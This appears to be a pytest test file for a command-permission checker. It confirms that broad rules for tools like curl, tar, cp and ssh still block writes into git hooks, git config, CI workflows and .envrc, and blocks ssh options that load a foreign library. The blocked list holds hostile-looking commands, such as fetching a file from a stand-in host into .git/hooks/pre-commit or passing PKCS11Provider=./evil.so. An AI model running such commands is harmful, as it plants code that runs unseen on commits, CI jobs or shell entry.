"""A rule for a program that writes files is no rule for the places that other programs run from."""

import pytest

from granting import allowed

WRITERS = (
    "curl wget tar sed rsync cp mv tee install ln dd touch unzip find ssh zip split mkdir chmod"
)
RULES = " ".join(f"Bash({name}:*)" for name in WRITERS.split())


@pytest.mark.parametrize(
    "command",
    [
        "curl -o .git/hooks/pre-commit https://x.example",
        "curl -so.git/hooks/pre-commit https://x.example",
        "curl --output=.git/hooks/pre-commit https://x.example",
        "curl --output-dir .git/hooks -O https://x.example/pre-commit",
        "wget -P .git/hooks https://x.example",
        "tar xf a.tar -C .git/hooks",
        "tar xf a.tar -C.git/hooks",
        "tar xf a.tar --directory=./.git/hooks",
        "unzip a.zip -d .husky",
        "sed -i s/a/b/ .git/config",
        "sed -ni.bak s/a/b/p .git/config",
        "sed --in-place s/a/b/ .git/config",
        "rsync a .git/hooks/",
        "rsync -a --exclude x a .git/hooks",
        "cp a .git/hooks/pre-commit",
        "cp a ./sub/../.git/hooks/pre-commit",
        "cp -t .git/hooks a",
        "cp --target-directory=.git/hooks a",
        "cp -r evil/.git .",
        "mv a .github/workflows/ci.yml",
        "echo x | tee -a .envrc",
        "install -m 755 a .git/hooks/pre-commit",
        "ln -s .git/hooks out",
        "dd if=a of=.git/hooks/pre-commit",
        "touch prowess.toml",
        "touch .g{it,}/config",
        "cp a .g{,it}/hooks",
        "cp a .g{,'it'}/hooks",
        "cp a .github/{x,workflows}",
        "tee .g{h..j}t/config",
        "tee .g*/config",
        "cp a .[g]it/config",
        "zip -r .git/x a",
        "zip -b tmp .git/x a",
        "split a .git/hooks/x",
        "mkdir -p .git/hooks",
        "chmod +x .git/hooks/pre-commit",
        "ssh -E .git/config h",
        "touch {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}",
        "cd .git && cp ../a hooks/pre-commit",
        "cd .git/hooks; tar xf ../../a.tar",
        "find . -exec cp {} .git/hooks/ \\;",
        'cp a ".git/hooks/$x"',
        "ssh -o PKCS11Provider=./evil.so h",
        "ssh -oSecurityKeyProvider=./evil.so h",
        "ssh -o 'Match exec id' h",
        "ssh -I evil.so h",
        "ssh -I./evil.so h",
    ],
)
def test_a_guarded_place_is_no_target(command: str) -> None:
    assert not allowed(RULES, command)


@pytest.mark.parametrize(
    "command",
    [
        "curl -o out.json https://x.example/.git/config",
        "tar czf a.tgz --exclude=.git .",
        "tar czf a.tgz --exclude .git .",
        "tar xf a.tar -C out",
        "sed -n 1,5p .github/workflows/ci.yml",
        "sed -i 's#.git/x#y#' notes.md",
        "rsync -a --exclude .git --exclude=.venv a/ b/",
        "cp .envrc .envrc.bak",
        "cp .github/workflows/ci.yml docs/ci.yml",
        "cp -r src out",
        "mv a.py b.py",
        "ln -s src/a b",
        "echo x | tee log.txt",
        "touch .gitignore",
        "cd src && cp a b",
        "cp .envrc{,.bak}",
        "cp a.yml{,.bak}",
        "touch {a,b}.txt",
        "mkdir -p src/{a,b}/{c,d}",
        "cp src/* out/",
        "cp *.toml out",
        "chmod +x *.sh",
        "zip -r out.zip . -x '.git/*'",
        "zip -r out.zip .github",
        "ssh -i key -p 22 h ls",
        "ssh -o IdentitiesOnly=yes h",
    ],
)
def test_everyday_targets_are_fine(command: str) -> None:
    assert allowed(RULES, command)


def test_an_exact_rule_may_name_a_guarded_place() -> None:
    assert allowed("Bash(cp a .git/hooks/pre-commit)", "cp a .git/hooks/pre-commit")
